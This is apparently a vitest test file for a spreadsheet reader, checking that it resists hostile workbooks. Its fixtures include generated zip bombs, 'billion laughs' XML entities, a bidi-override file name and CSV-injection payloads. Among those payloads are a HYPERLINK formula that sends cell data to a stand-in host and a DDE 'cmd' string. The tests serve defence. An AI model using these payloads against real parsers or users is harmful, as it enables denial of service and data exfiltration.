import fs from 'node:fs/promises';
import path from 'node:path';
import zlib from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { DEFAULT_LIMITS, readSheets, SpreadsheetError } from '../../src/lib/server/spreadsheets/index.ts';
import { fixturePath } from '../helpers/fixtures.ts';
import { MAIN, REL, zip, type Part } from '../helpers/hostile-spreadsheets.ts';

const SPREADSHEETS = fixturePath('files/spreadsheets');

const part = (name: string, text: string): Part => {
  const data = Buffer.from(text, 'utf8');
  return { name, deflated: zlib.deflateRawSync(data), declaredSize: data.length };
};


/** The parts of a one-sheet workbook; `extra` adds or replaces parts. */
function xlsxParts(sheetData: string, extra: Part[] = [], sharedStrings = false): Part[] {
  const parts = [
    part('xl/workbook.xml', `<workbook ${MAIN} xmlns:r="${REL}"><sheets><sheet name="Hoja1" sheetId="1" r:id="rId1"/></sheets></workbook>`),
    part(
      'xl/_rels/workbook.xml.rels',
      `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/worksheet" Target="worksheets/sheet1.xml"/>` +
        `<Relationship Id="rId2" Type="${REL}/styles" Target="styles.xml"/>` +
        (sharedStrings ? `<Relationship Id="rId3" Type="${REL}/sharedStrings" Target="sharedStrings.xml"/>` : '') +
        '</Relationships>',
    ),
    part('xl/styles.xml', `<styleSheet ${MAIN}/>`),
    part('xl/worksheets/sheet1.xml', `<worksheet ${MAIN}><sheetData>${sheetData}</sheetData></worksheet>`),
  ];
  const replaced = new Set(extra.map((p) => p.name));
  return [...parts.filter((p) => !replaced.has(p.name)), ...extra];
}

function odsContent(rows: string): Uint8Array {
  return zip([
    part('mimetype', 'application/vnd.oasis.opendocument.spreadsheet'),
    part(
      'content.xml',
      '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" ' +
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0">' +
        `<office:body><office:spreadsheet><table:table table:name="Hoja1">${rows}</table:table></office:spreadsheet></office:body></office:document-content>`,
    ),
  ]);
}

/** `megabytes` MiB of zeros between `prefix` and `suffix`, deflated as it streams (a thousandfold smaller), declared as 1 KB. */
async function bomb(name: string, prefix: string, megabytes: number, suffix = ''): Promise<Part> {
  const deflater = zlib.createDeflateRaw({ level: 9 });
  const out: Buffer[] = [];
  deflater.on('data', (chunk: Buffer) => out.push(chunk));
  const done = new Promise((resolve) => deflater.on('end', resolve));
  deflater.write(prefix);
  const filler = Buffer.alloc(1 << 20, '0');
  for (let i = 0; i < megabytes; i += 1) deflater.write(filler);
  deflater.end(suffix);
  await done;
  return { name, deflated: Buffer.concat(out), declaredSize: 1024 };
}

describe('hostile spreadsheets', () => {
  it('a zip bomb stops at the part limit, whatever the zip declares', async () => {
    // 300 MiB of styles in a 300 KB file: the limit for a small part is 20 MB.
    const styles = await bomb('xl/styles.xml', `<styleSheet ${MAIN}><numFmts><numFmt numFmtId="164" formatCode="`, 300);
    const file = zip(xlsxParts('<row r="1"><c r="A1"><v>1</v></c></row>', [styles]));
    expect(file.byteLength).toBeLessThan(400_000);
    const started = performance.now();
    await expect(readSheets(file)).rejects.toThrow(/xl\/styles\.xml pasa de 20000000 bytes/);
    expect(performance.now() - started).toBeLessThan(5_000);
  });

  it('a zip bomb spread over several parts stops at the total limit', async () => {
    // Two well-formed parts that each fit the part limit of this test, but not together.
    const strings = await bomb('xl/sharedStrings.xml', `<sst ${MAIN}><si><t>`, 12, '</t></si></sst>');
    const styles = await bomb('xl/styles.xml', `<styleSheet ${MAIN}><numFmts><numFmt numFmtId="164" formatCode="`, 12, '"/></numFmts></styleSheet>');
    const file = zip(xlsxParts('<row r="1"><c r="A1"><v>1</v></c></row>', [strings, styles], true));
    const limits = { ...DEFAULT_LIMITS, maxPartBytes: 15_000_000, maxMetadataBytes: 15_000_000, maxUncompressedBytes: 20_000_000 };
    await expect(readSheets(file, limits)).rejects.toThrow(/más de 20000000 bytes descomprimidos/);
  });

  it('a sheet past the size limits keeps the rows read until then, marked truncated', async () => {
    // 12 MiB of shared strings, then a 12 MiB sheet: the total limit of 20 MB falls inside the sheet.
    const strings = await bomb('xl/sharedStrings.xml', `<sst ${MAIN}><si><t>`, 12, '</t></si><si><t>Santo Domingo</t></si></sst>');
    const sheet = await bomb(
      'xl/worksheets/sheet1.xml',
      `<worksheet ${MAIN}><sheetData><row r="1"><c r="A1" t="s"><v>1</v></c><c r="B1" t="s"><v>0</v></c></row><row r="2"><c r="A2"><v>`,
      12,
      '</v></c></row></sheetData></worksheet>',
    );
    const limits = { ...DEFAULT_LIMITS, maxPartBytes: 15_000_000, maxUncompressedBytes: 20_000_000 };
    const [only] = await readSheets(zip(xlsxParts('', [strings, sheet], true)), limits);
    // B1, the 12 MiB string, is cut at Excel's 32,767 characters per cell.
    expect(only).toMatchObject({ rows: 1, columns: 2, truncated: true, csv: `Santo Domingo,${'0'.repeat(32_767)}\r\n` });
  });

  it('the empty rows LibreOffice repeats to the end of a sheet are not expanded', async () => {
    const started = performance.now();
    const [sheet] = await readSheets(
      odsContent(
        '<table:table-row><table:table-cell office:value-type="string"><text:p>Provincia</text:p></table:table-cell>' +
          '<table:table-cell table:number-columns-repeated="16383"/></table:table-row>' +
          '<table:table-row><table:table-cell office:value-type="string"><text:p>Azua</text:p></table:table-cell></table:table-row>' +
          '<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384"/></table:table-row>',
      ),
    );
    expect(sheet).toMatchObject({ rows: 2, columns: 1, truncated: false, csv: 'Provincia\r\nAzua\r\n' });
    expect(performance.now() - started).toBeLessThan(1_000);
  });

  it('a filled row repeated 1,048,576 times stops at the row limit, marked truncated', async () => {
    // The CSV's size limit out of the way: this is the row limit's test.
    const [sheet] = await readSheets(
      odsContent(
        '<table:table-row table:number-rows-repeated="1048576"><table:table-cell office:value-type="float" office:value="1" table:number-columns-repeated="3"/></table:table-row>',
      ),
      { ...DEFAULT_LIMITS, minCsvBytes: DEFAULT_LIMITS.maxCsvBytes },
    );
    expect(sheet).toMatchObject({ rows: DEFAULT_LIMITS.maxRows, columns: 3, truncated: true });
    expect(sheet!.csv.length).toBe(DEFAULT_LIMITS.maxRows * '1,1,1\r\n'.length);
  });

  it('a small file of long distinct strings is written out as at most twenty times its size, marked truncated', async () => {
    // Each string differs (the store would keep one copy of repeated ones) and is cited by one
    // cell: 13 MB of CSV from a file of a few tens of KB, 530 times its size at 3,100 strings.
    const strings = Array.from({ length: 400 }, (_, index) => `<si><t>${index}-${'x'.repeat(32_700)}</t></si>`).join('');
    const file = zip([
      ...xlsxParts(Array.from({ length: 400 }, (_, index) => `<row r="${index + 1}"><c r="A${index + 1}" t="s"><v>${index}</v></c></row>`).join(''), [], true),
      part('xl/sharedStrings.xml', `<sst ${MAIN}>${strings}</sst>`),
    ]);
    expect(file.byteLength).toBeLessThan(100_000);
    const [sheet] = await readSheets(file);
    expect(sheet!.truncated).toBe(true);
    expect(Buffer.byteLength(sheet!.csv)).toBeLessThanOrEqual(DEFAULT_LIMITS.minCsvBytes);
    expect(sheet!.rows).toBeGreaterThan(50);
    // A real workbook's CSVs are smaller than its file: the fixtures' are whole.
    for (const name of ['cnss-recaudos-sfs-2003-2023.xlsx', 'one-primas-netas-seguros-2015-2023.xlsx', 'cnss-recaudos-sfs-2003-2023.ods']) {
      const sheets = await readSheets(await fs.readFile(fixturePath(`files/spreadsheets/${name}`)), { ...DEFAULT_LIMITS, minCsvBytes: 0 });
      expect(sheets.some((one) => one.truncated), name).toBe(false);
    }
  });

  it('cells beyond the column limit, and rows far below, cost nothing', async () => {
    const [sheet] = await readSheets(
      zip(xlsxParts('<row r="1"><c r="A1"><v>1</v></c><c r="XFD1"><v>2</v></c></row><row r="1048576"><c r="XFD1048576"><v>3</v></c></row>')),
    );
    // The cell at row 1,048,576 lies beyond the columns kept: the blank rows above it are not written.
    expect(sheet).toMatchObject({ rows: 1, columns: 1, truncated: true, csv: '1\r\n' });
  });

  it('two cells far apart (ALL1 and A1000000) make a few lines, not a million lines of commas', async () => {
    // 199,800 lines of 1,000 fields (191 MB) from a file of about 1 KB before (issue #16).
    const file = zip(
      xlsxParts(
        '<row r="1"><c r="ALL1" t="inlineStr"><is><t>Derecha</t></is></c></row>' +
          '<row r="1000000"><c r="A1000000" t="inlineStr"><is><t>Abajo</t></is></c></row>',
      ),
    );
    expect(file.byteLength).toBeLessThan(2_000);
    // The same cells in an ODS: the blank rows between them as one repeated row.
    const spreadsheet = odsContent(
      '<table:table-row><table:table-cell table:number-columns-repeated="999"/><table:table-cell office:value-type="string"><text:p>Derecha</text:p></table:table-cell></table:table-row>' +
        '<table:table-row table:number-rows-repeated="999998"><table:table-cell table:number-columns-repeated="1000"/></table:table-row>' +
        '<table:table-row><table:table-cell office:value-type="string"><text:p>Abajo</text:p></table:table-cell></table:table-row>',
    );
    const blankLines = `${','.repeat(999)}\r\n`.repeat(DEFAULT_LIMITS.maxBlankRows);
    for (const [sheet] of [await readSheets(file), await readSheets(spreadsheet)]) {
      // The 999,998 blank rows between the two values are shortened to a few.
      expect(sheet).toMatchObject({ rows: 2 + DEFAULT_LIMITS.maxBlankRows, columns: 1_000, truncated: false });
      expect(sheet!.csv).toBe(`${','.repeat(999)}Derecha\r\n${blankLines}Abajo${','.repeat(999)}\r\n`);
      expect(sheet!.csv.length).toBeLessThan(10_000);
    }
  });

  it('scattered cells cannot spread into a grid of blanks: the grid written is bounded by the cells with content', async () => {
    // ALL1, then one cell in column A on each of the next 2,000 rows: 2 MB of commas before.
    const below = Array.from({ length: 2_000 }, (_, i) => `<row r="${i + 2}"><c r="A${i + 2}"><v>${i}</v></c></row>`).join('');
    const [sheet] = await readSheets(zip(xlsxParts(`<row r="1"><c r="ALL1"><v>1</v></c></row>${below}`)));
    expect(sheet).toMatchObject({ columns: 1_000, truncated: true });
    expect(sheet!.rows * sheet!.columns).toBeLessThanOrEqual(DEFAULT_LIMITS.minGridCells);
    expect(sheet!.csv.length).toBeLessThan(25_000);
    expect(sheet!.csv).toMatch(/^,{999}1\r\n0,{999}\r\n1,{999}\r\n/);
  });

  it('a sheet name loses bidi overrides and invisible characters (issue #16)', async () => {
    const file = zip(
      xlsxParts('<row r="1"><c r="A1" t="inlineStr"><is><t>dato</t></is></c></row>', [
        part('xl/workbook.xml', `<workbook ${MAIN} xmlns:r="${REL}"><sheets><sheet name="Gastos\u202Egpj.exe\u200B" sheetId="1" r:id="rId1"/></sheets></workbook>`),
      ]),
    );
    const [sheet] = await readSheets(file);
    expect(sheet!.name).toBe('Gastosgpj.exe');
  });

  it('a string cell that looks like a formula stays text, defused for a spreadsheet opening the CSV; formulas are never evaluated', async () => {
    const injection = '=HYPERLINK("https://malo.example/?q="&A2,"Haga clic")';
    const escaped = injection.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');
    const [sheet] = await readSheets(
      zip(
        xlsxParts(
          '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="inlineStr"><is><t>+SUM(1+1)*cmd|\' /C calc\'!A0</t></is></c>' +
            '<c r="C1" t="str"><f>CONCATENATE("=","1+1")</f><v>=1+1</v></c><c r="D1"><f>1/0</f></c><c r="E1" t="e"><v>#DIV/0!</v></c></row>',
          [part('xl/sharedStrings.xml', `<sst ${MAIN}><si><t>${escaped}</t></si></sst>`)],
          true,
        ),
      ),
    );
    // Each starts with «'»: Excel and LibreOffice show it instead of running it (CSV injection).
    expect(sheet!.csv).toBe('"\'=HYPERLINK(""https://malo.example/?q=""&A2,""Haga clic"")",\'+SUM(1+1)*cmd|\' /C calc\'!A0,\'=1+1,,#DIV/0!\r\n');
  });

  it('entities a DOCTYPE declares are never expanded ("billion laughs")', async () => {
    const laughs =
      '<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">' +
      '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>' +
      `<sst ${MAIN}><si><t>&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;</t></si></sst>`;
    const file = zip(xlsxParts('<row r="1"><c r="A1" t="s"><v>0</v></c></row>', [part('xl/sharedStrings.xml', laughs)], true));
    await expect(readSheets(file)).rejects.toThrow(/XML no válido en xl\/sharedStrings\.xml/);
  });

  it('damaged files are refused with a SpreadsheetError, never another error', async () => {
    const real = new Uint8Array(await fs.readFile(path.join(SPREADSHEETS, 'cnss-recaudos-sfs-2003-2023.xlsx')));
    const halved = real.slice(0, real.byteLength >> 1);
    const noise = new Uint8Array(4096).map((_, i) => (i * 7919) % 251);
    const damaged = real.slice();
    // Overwrite the middle of the zip (inside the worksheet's deflated data) with garbage.
    damaged.fill(0xff, 20_000, 21_000);
    const badDirectory = real.slice();
    badDirectory.fill(0x41, real.byteLength - 600, real.byteLength - 30);
    const notAnOds = zip([part('mimetype', 'application/vnd.oasis.opendocument.text'), part('content.xml', '<x/>')]);
    const unclosed = zip(xlsxParts('<row r="1"><c r="A1"><v>1</v></c>'));
    for (const file of [new Uint8Array(0), noise, halved, damaged, badDirectory, notAnOds, unclosed]) {
      await expect(readSheets(file)).rejects.toThrow(SpreadsheetError);
    }
  });

  it('a reading that takes too long is stopped', async () => {
    const file = new Uint8Array(await fs.readFile(path.join(SPREADSHEETS, 'one-primas-netas-seguros-2015-2023.xlsx')));
    await expect(readSheets(file, { ...DEFAULT_LIMITS, timeoutMs: 0 })).rejects.toThrow(/interrumpida/);
  });
});
